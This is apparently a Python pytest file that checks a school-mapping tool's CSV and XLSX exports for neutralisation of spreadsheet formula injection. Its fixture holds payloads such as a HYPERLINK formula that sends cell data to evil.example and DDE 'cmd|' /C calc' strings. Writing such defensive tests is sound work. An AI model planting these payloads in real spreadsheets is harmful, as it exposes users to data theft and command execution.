"""No downloaded or written file carries a live spreadsheet formula.

A hostile uploaded file puts formulas in cell values and in a column name; the
validation report and the rejected rows (Data page downloads, CLI ``--report`` /
``--rejected``) and the XLSX export must all arrive neutralised.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
from openpyxl import load_workbook

from mapping import exports
from mapping.cli import main
from mapping.datasets import Region
from mapping.registry import read_registry

ROOT = Path(__file__).resolve().parent.parent
PAYLOADS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0")
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _hostile_csv() -> bytes:
    header = ["school_id", "name_fr", "cycle", "sector", "commune_code", "lon", "lat",
              "seats", PAYLOADS[2]]
    rows = [
        # accepted row whose name is a formula
        ["H1", PAYLOADS[0], "primary", "public", "07.041.01.01", "-8.0", "31.63", "300", "x"],
        # rejected rows (unknown commune, unknown cycle) carrying formulas everywhere
        ["H2", PAYLOADS[1], "primary", "public", PAYLOADS[1], "", "", "200", PAYLOADS[0]],
        ["H3", PAYLOADS[3], PAYLOADS[0], "public", "07.041.01.01", "", "", PAYLOADS[3], "y"],
    ]
    buf = io.StringIO()
    csv.writer(buf).writerows([header, *rows])
    return buf.getvalue().encode("utf-8")


def _live_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    return [c for c in cells if c.startswith(FORMULA) and not re.fullmatch(r"-?\d+(\.\d+)?", c)]


def test_rejected_rows_and_report_downloads_are_neutralised(region: Region) -> None:
    result = read_registry(_hostile_csv(), "hostile.csv", region=region)
    assert result.summary["rejected"] >= 2  # the hostile rows really are rejected
    raw = result.rejected.to_csv(index=False).encode()
    assert _live_cells(raw), "the fixture must carry live formulas before neutralisation"
    for frame in (result.rejected, result.issues, pd.DataFrame(result.schools)):
        data = exports.to_csv(frame)
        assert _live_cells(data) == []
        assert "'=HYPERLINK(" in data.decode("utf-8-sig") or frame is result.issues


def test_cli_report_and_rejected_files_are_neutralised(tmp_path: Path) -> None:
    src = tmp_path / "hostile.csv"
    src.write_bytes(_hostile_csv())
    report, rejected = tmp_path / "report.csv", tmp_path / "rejected.csv"
    code = main(["registry", "validate", str(src), "--report", str(report),
                 "--rejected", str(rejected)])
    assert code == 1
    for path in (report, rejected):
        assert _live_cells(path.read_bytes()) == []
    assert "'+cmd|" in rejected.read_text(encoding="utf-8-sig")  # the column name too


def test_xlsx_cells_and_headers_are_neutralised() -> None:
    frame = pd.DataFrame({PAYLOADS[2]: [PAYLOADS[0], "ok"], "n": [1, 2]})
    sheet = load_workbook(io.BytesIO(exports.to_xlsx(frame, ["HCP"]))).worksheets[0]
    values = [c.value for row in sheet.iter_rows() for c in row]
    assert not any(isinstance(v, str) and v.startswith(FORMULA) for v in values)
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_every_file_writer_goes_through_the_export_layer() -> None:
    writers = re.compile(r"\.to_csv\(|\.to_excel\(|ExcelWriter\(")
    offenders = [
        f"{path.relative_to(ROOT)}:{n}"
        for folder in ("ui", "mapping/commands", "app.py")
        for path in ([ROOT / folder] if folder.endswith(".py") else (ROOT / folder).rglob("*.py"))
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if writers.search(line) and "exports" not in line
    ]
    assert offenders == [], "write files through mapping.exports (to_csv / to_xlsx)"
